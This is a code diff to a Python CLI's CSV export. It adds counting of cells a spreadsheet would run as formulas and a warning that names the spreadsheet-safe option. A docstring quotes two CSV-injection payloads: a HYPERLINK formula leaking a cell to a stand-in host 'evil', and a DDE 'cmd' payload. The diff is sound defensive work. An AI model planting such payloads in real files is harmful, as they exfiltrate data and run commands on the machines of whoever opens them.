@@ -3068,7 +3068,19 @@ def _cmd_export(args: argparse.Namespace) -> int:
     w = out.writer(sys.stdout)
     w.writerow(out.header())
     w.writerows(out.row(v) for v in views)
+    if out.formulas:
+        sys.stdout.flush()
+        print(f"outpost: warning: {formula_warning(out.formulas)}: use `outpost export "
+              f"{shlex.quote(args.topic)} --for-spreadsheet` for a file to open in a "
+              "spreadsheet (`outpost import --from-spreadsheet` reads it back)",
+              file=sys.stderr)
     return 0
+
+
+def formula_warning(n: int) -> str:
+    """What a plain export says of its ``n`` cells a spreadsheet would run as formulas."""
+    return (f"{n:,} cell{'s' if n != 1 else ''} a spreadsheet would run as formula"
+            f"{'s' if n != 1 else ''} (starting with = + - @ or a tab)")
 
 
 class CsvExport:
@@ -3078,6 +3090,9 @@ class CsvExport:
 
     def __init__(self, model: Any, rev: Rev | None = None, *, sheet: bool = False):
         self.sheet = sheet  # --for-spreadsheet: formula-leading cells get a ' (for_sheet)
+        self.formulas = 0
+        """Cells written so far that a spreadsheet would run as formulas (plain export only:
+        said after it, with the fix; session 15: written raw, without a word)."""
         self.names = model.field_names()
         self.as_json = {f.name for f in model.fields if f.type == "json"}  # "12" stays a str
         self.tail = [format_rev(rev)] if rev is not None else []
@@ -3095,13 +3110,23 @@ class CsvExport:
         row = [v.key, *("" if f.get(n) is None else
                         json.dumps(f[n]) if n in self.as_json or isinstance(f[n], bool)
                         else f[n] for n in self.names), *self.tail]
-        return [for_sheet(str(c)) for c in row] if self.sheet else row
+        if self.sheet:
+            return [for_sheet(str(c)) for c in row]
+        self.formulas += sum(1 for c in row if type(c) is str and runs_as_formula(c))
+        return row
 
 
 # A cell a spreadsheet reads as a formula starts with one of these (OWASP, "CSV Injection":
 # = + - @, tab, carriage return; a line feed and the full-width forms some read alike too)
 _FORMULA = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
 _NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+
+
+def runs_as_formula(cell: str) -> bool:
+    """Whether a spreadsheet opening a CSV would take ``cell`` for a formula (and run it:
+    ``=HYPERLINK("http://evil/"&A1)``, ``+cmd|' /C calc'!A0``): it starts with a character
+    of :data:`_FORMULA` and is not a number such as ``-1.5``."""
+    return bool(cell) and cell[0] in _FORMULA and not _NUMBER.fullmatch(cell)
 
 
 def for_sheet(cell: str) -> str:
